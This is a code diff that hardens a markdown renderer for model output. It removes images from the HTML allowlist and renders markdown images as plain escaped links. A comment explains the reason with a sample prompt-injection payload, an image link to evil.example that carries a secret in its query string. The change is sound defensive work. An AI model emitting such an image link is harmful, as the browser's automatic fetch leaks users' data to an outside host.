@@ -22,6 +22,9 @@ from __future__ import annotations
 
 import functools
 from dataclasses import dataclass
+from typing import Any
+
+from markupsafe import escape
 
 try:
     import nh3
@@ -36,12 +39,11 @@ __all__ = ("MarkdownRenderer", "MarkdownStep", "StreamingMarkdown", "render_mark
 
 #: Everything markdown-it emits with raw HTML off, and nothing else.
 _TAGS = {
-    "a", "blockquote", "br", "code", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "img", "li", "ol", "p",
+    "a", "blockquote", "br", "code", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p",
     "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
 }  # fmt: skip
 _ATTRIBUTES = {
     "a": {"href", "title"},
-    "img": {"src", "alt", "title"},
     "ol": {"start"},
     "code": {"class"},  # language-xyz from a fence's info string; a class cannot run anything
     "th": {"style"},
@@ -64,6 +66,9 @@ class MarkdownRenderer:
         parser = MarkdownIt("commonmark", {"html": False})
         parser.enable(["table", "strikethrough"])
         parser.disable(["reference", "html_block", "html_inline"])
+        # An image the model writes would be fetched by the browser at once, so a prompt-injected
+        # ![x](https://evil.example/?q=secret) leaks data without a click: render it as a link.
+        parser.add_render_rule("image", _image_as_link)
         self._parser = parser
         cleaner = nh3.Cleaner(tags=_TAGS, attributes=_ATTRIBUTES, filter_style_properties={"text-align"})
         self._clean = cleaner.clean
@@ -81,6 +86,13 @@ class MarkdownRenderer:
     def render(self, source: str) -> str:
         """Render a whole markdown text to sanitized HTML."""
         return self.render_tokens(self.parse(source))
+
+
+def _image_as_link(renderer: Any, tokens: list[Token], index: int, options: Any, env: Any) -> str:
+    token = tokens[index]
+    src = str(token.attrGet("src") or "")
+    label = renderer.renderInlineAsText(token.children or [], options, env) or src
+    return f'<a href="{escape(src)}">{escape(label)}</a>'
 
 
 @functools.cache
@@ -124,12 +136,11 @@ class StreamingMarkdown:
         md.finish()     # MarkdownStep(blocks='<p>Second</p>\\n', tail='')
     """
 
-    __slots__ = ("_done", "_pending_cr", "_renderer", "_source", "_tail_html")
+    __slots__ = ("_pending_cr", "_renderer", "_source", "_tail_html")
 
     def __init__(self, renderer: MarkdownRenderer | None = None) -> None:
         self._renderer = renderer or _default_renderer()
         self._source = ""  # the unfinished tail of the text, newlines normalised to LF
-        self._done: list[str] = []  # sanitized HTML of the finished blocks, in order
         self._tail_html = ""
         self._pending_cr = False
 
@@ -148,7 +159,6 @@ class StreamingMarkdown:
         if cut is not None:
             index, offset = cut
             blocks = self._renderer.render_tokens(tokens[:index])
-            self._done.append(blocks)
             self._source = self._source[offset:]
             tokens = tokens[index:]
         self._tail_html = self._renderer.render_tokens(tokens)
@@ -157,15 +167,8 @@ class StreamingMarkdown:
     def finish(self) -> MarkdownStep:
         """The text is complete: every remaining block is finished, the tail becomes empty."""
         blocks = self._renderer.render(self._source)
-        self._done.append(blocks)
         self._source = self._tail_html = ""
         return MarkdownStep(blocks, "")
-
-    def html(self) -> str:
-        """All HTML of the last step: finished blocks followed by the tail."""
-        done = "".join(self._done)
-        self._done = [done]  # later joins start from one piece, not from every block again
-        return done + self._tail_html
 
 
 def _finished_prefix(tokens: list[Token], source: str) -> tuple[int, int] | None:
